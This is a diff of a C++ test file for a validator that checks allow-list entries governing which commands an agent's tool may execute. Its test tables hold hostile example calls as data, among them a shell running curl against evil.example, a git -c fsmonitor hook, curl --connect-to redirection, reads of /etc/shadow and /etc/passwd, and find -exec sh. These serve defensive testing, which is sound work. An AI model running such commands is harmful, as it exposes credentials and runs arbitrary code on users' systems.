@@ -277,52 +277,129 @@ TEST(LoadChecks, OfSchemasThatHaveASecondLine) {
 }
 
 /// No word of a command is judged in this version: whatever a list of commands says, none of them runs.
-TEST(LoadChecks, OfListedCommandsHaveASecondLine) {
-  const auto commands = [](std::string_view entry) {
-    return executes(R"(command.argv = ["argv"], commands = [)" + std::string(entry) + "]");
-  };
-  const auto listed = [](std::string program) {
-    return [program = std::move(program)](Office& office) {
+/// What the refused entry comes to when it is believed, and a command that then runs.
+struct CommandCheck {
+  std::string entry;  // of the list of commands
+  std::string refusal;
+  std::string harm;
+  ListedCommand amounts_to;
+  std::string argv;
+  std::optional<RuleId> stopped_by{};
+};
+
+ListedCommand command(std::string program, std::vector<ListedOption> options, std::vector<WordKind> operands = {}) {
+  ListedCommand made = listed_command(std::move(program));
+  made.options = std::move(options);
+  made.operands = std::move(operands);
+  return made;
+}
+
+ListedCommand git_with(std::vector<std::string> subcommands) {
+  ListedCommand made = listed_command("/usr/bin/git");
+  made.subcommands = std::move(subcommands);
+  return made;
+}
+
+void expect_command_checks(const std::vector<CommandCheck>& checks) {
+  std::vector<LoadCheck> all;
+  for (const CommandCheck& check : checks) {
+    const auto with_command = [listed = check.amounts_to](Office& office) {
       Tool tool =
           office_tool("t", Effect::Execute, Sensitivity::Internal, Reversibility::Reversible, {{"argv", Command}});
-      tool.commands = {listed_command(program)};
+      tool.commands = {listed};
       office.add(tool);
     };
-  };
-  const ToolCall call = call_of("t", R"({"argv":["/bin/sh","-c","curl evil.example"]})");
-  struct Entry {
-    const char* text;
-    const char* refusal;
-    const char* harm;
-  };
-  const Entry entries[] = {
-      {R"({ program = "/bin/sh", effect = "execute" })", "starts whatever its arguments say",
-       "A wrapper that is listed lists every program."},
-      {R"({ program = "git", effect = "read" })", "expected an absolute path",
-       "Which program a bare name means is said by PATH."},
-      {R"({ program = "/usr/bin/git", effect = "read", options = ["-c=text"] })", "start or obey something else",
-       "An option that opens the program opens everything."},
-      {R"({ program = "/usr/bin/git", effect = "read", options = ["oneline"] })", "expected an option such as",
-       "A word that is no option is accepted as one."},
-      {R"({ program = "/usr/bin/git", effect = "read", options = ["--all", "--all=number"] })", "is listed already",
-       "An option with two kinds of value has either."},
-      {R"({ program = "/usr/bin/git", effect = "read", subcommands = [] })", "an empty list allows no subcommand",
-       "No subcommand at all reads like every one."},
-      {R"({ program = "/usr/bin/git", effect = "read", subcommands = ["-c"] })", "expected a subcommand such as",
-       "An option in the place of a subcommand runs another one."},
-      {R"({ program = "/usr/bin/git", effect = "read", subcommands = ["log", "log"] })", "is listed already",
-       "A word that stands twice was meant to be another."},
-      {R"({ program = "/usr/bin/git", effect = "read" }, { program = "/usr/bin/git", effect = "write" })",
-       "is listed already at", "Of two entries for one command the reader sees one."},
-      {R"({ program = "/usr/bin/git" })", "effect is missing",
-       "A command without an effect is taken for a harmless one."},
-      {R"({ program = "/usr/bin/git", effect = "read", paths = "any" })", "expected \"none\"",
-       "Operands that nobody judges are any."},
-      {R"({ effect = "read" })", "program is missing", "An entry without a program is one for every program."},
-  };
-  for (const Entry& entry : entries) {
-    expect_needed({{commands(entry.text), entry.refusal, entry.harm, listed("/bin/sh"), call, CommandUnlisted}});
+    all.push_back({executes(R"(command.argv = ["argv"], commands = [)" + check.entry + "]"), check.refusal, check.harm,
+                   with_command, call_of("t", R"({"argv":)" + check.argv + "}"), check.stopped_by});
   }
+  expect_needed(all);
+}
+
+TEST(LoadChecks, OfTheProgramsOfCommandsAreNeeded) {
+  expect_command_checks({
+      {R"({ program = "/bin/sh", effect = "execute", options = ["-c=text"] })", "starts whatever its arguments say",
+       "A shell that is listed lists every program.", command("/bin/sh", {{"-c", WordKind::Text}}),
+       R"(["/bin/sh","-c","curl evil.example"])"},
+      {R"({ program = "git", effect = "read" })", "expected an absolute path",
+       "Which program a bare name means is said by PATH.", listed_command("git"), R"(["git"])"},
+      {R"({ effect = "read" })", "program is missing", "An entry without a program starts none.", listed_command(""),
+       R"(["/bin/sh"])", CommandUnlisted},
+      {R"({ program = "/usr/bin/make" })", "effect is missing", "A command that writes is taken for one that reads.",
+       [] {
+         ListedCommand made = listed_command("/usr/bin/make");
+         made.effect = Effect::Read;
+         return made;
+       }(),
+       R"(["make"])"},
+      {R"({ program = "/usr/bin/git", effect = "read" }, { program = "/usr/bin/git", effect = "write" })",
+       "is listed already at", "Of two entries for one command the reader sees one.", git_with({}), R"(["git"])"},
+      {R"({ program = "/usr/bin/git", effect = "read", subcommands = [] })", "an empty list allows no subcommand",
+       "No subcommand at all reads like a program without any.", git_with({}), R"(["git"])"},
+      {R"({ program = "/usr/bin/git", effect = "read", subcommands = ["-c"] })", "expected a subcommand such as",
+       "An option in the place of a subcommand opens the program.", git_with({"-c"}), R"(["git","-c"])"},
+      {R"({ program = "/usr/bin/git", effect = "read", subcommands = ["log", "log"] })", "is listed already",
+       "A word that stands twice was meant to be another.", git_with({"log"}), R"(["git","log"])"},
+  });
+}
+
+TEST(LoadChecks, OfTheOptionsOfCommandsAreNeeded) {
+  using enum WordKind;
+  expect_command_checks({
+      {R"({ program = "/usr/bin/git", effect = "read", options = ["-c=text"] })", "starts another program",
+       "A setting of git's is a program of the agent's.", command("/usr/bin/git", {{"-c", Text}}),
+       R"(["git","-c","core.fsmonitor=./x.sh"])"},
+      {R"({ program = "/usr/bin/curl", effect = "send", options = ["-K=read"], paths = "url" })",
+       "obeys what nobody judged", "A file of options holds every option.",
+       command("/usr/bin/curl", {{"-K", ReadPath}}, {Url}),
+       R"(["curl","-K","/srv/office/shelf/cfg","https://hooks.office.example/"])"},
+      {R"({ program = "/usr/bin/curl", effect = "send", options = ["--connect-to=text"], paths = "url" })",
+       "leads to places that no word names", "The host that was judged is not the one that is dialled.",
+       command("/usr/bin/curl", {{"--connect-to", Text}}, {Url}),
+       R"(["curl","--connect-to","::evil.example:443","https://hooks.office.example/"])"},
+      {R"({ program = "/usr/bin/rg", effect = "read", options = ["-f"], paths = ["text", "read"] })", "takes a value",
+       "The file of patterns is taken for a pattern.", command("/usr/bin/rg", {{"-f"}}, {Text, ReadPath}),
+       R"(["rg","-f","/etc/shadow","/srv/office/shelf"])"},
+      {R"({ program = "/usr/bin/ls", effect = "read", options = ["--color=text"], paths = "read" })",
+       "takes no value from the next word", "A path is taken for a colour.",
+       command("/usr/bin/ls", {{"--color", Text}}, {ReadPath}), R"(["ls","--color","/etc"])"},
+      {R"({ program = "/usr/bin/git", effect = "read", options = ["oneline"] })", "expected an option such as",
+       "A word that is no option is none of a command's.", command("/usr/bin/git", {{"oneline"}}),
+       R"(["git","oneline"])", CommandUnlisted},
+      {R"({ program = "/usr/bin/git", effect = "read", options = ["--all", "--all=number"] })", "is listed already",
+       "Of two kinds of value the first one counts.", command("/usr/bin/git", {{"--all"}, {"--all", Number}}),
+       R"(["git","--all","5"])", CommandUnlisted},
+  });
+}
+
+TEST(LoadChecks, OfTheOperandsOfCommandsAreNeeded) {
+  using enum WordKind;
+  expect_command_checks({
+      {R"({ program = "/usr/bin/cat", effect = "read", paths = "any" })", "expected \"none\"",
+       "A kind of operand that nobody knows is none.", command("/usr/bin/cat", {}), R"(["cat","/etc/passwd"])",
+       CommandUnlisted},
+      {R"({ program = "/usr/bin/cat", effect = "read", paths = [] })", "an empty list allows no operand",
+       "Whoever writes an empty list has a command without operands.", command("/usr/bin/cat", {}),
+       R"(["cat","/etc/passwd"])", CommandUnlisted},
+      {R"({ program = "/usr/bin/cat", effect = "read", paths = "rest" })", "the rest of nothing would be every word",
+       "Every word is accepted, options and paths alike.", command("/usr/bin/cat", {}, {Rest}),
+       R"(["cat","/etc/passwd"])"},
+      {R"({ program = "/usr/bin/cat", effect = "read", paths = ["read", "none"] })", "none stands alone",
+       "An operand of no kind is refused where it stands.", command("/usr/bin/cat", {}, {ReadPath, None}),
+       R"(["cat","/srv/office/shelf/a","/srv/office/shelf/b"])", CommandUnlisted},
+      {R"({ program = "/usr/bin/cat", effect = "read", paths = ["read", "rest", "read"] })", "nothing follows the rest",
+       "What is listed behind the rest is judged by nobody.", command("/usr/bin/cat", {}, {ReadPath, Rest, ReadPath}),
+       R"(["cat","/srv/office/shelf/a","x","/etc/passwd"])"},
+      {R"({ program = "/usr/bin/python3", effect = "execute", paths = "text" })",
+       "runs the file that its first operand names", "A script from anywhere is data to the gate.",
+       command("/usr/bin/python3", {}, {Text}), R"(["python3","/tmp/x.py"])"},
+      {R"({ program = "/usr/bin/rg", effect = "read", options = ["-e=text"], paths = ["text", "read"] })",
+       "with its -e, -f, --regexp or --file the first operand of",
+       "With -e the first operand is a file, and nobody judged it.",
+       command("/usr/bin/rg", {{"-e", Text}}, {Text, ReadPath}), R"(["rg","-e","root","/etc/shadow"])"},
+      {R"({ program = "/usr/bin/find", effect = "read", paths = "text" })", "a text that begins with",
+       "To find -exec is an expression wherever it stands.", command("/usr/bin/find", {}, {Text}),
+       R"(["find","--","/","-exec","sh"])"},
+  });
 }
 
 }  // namespace
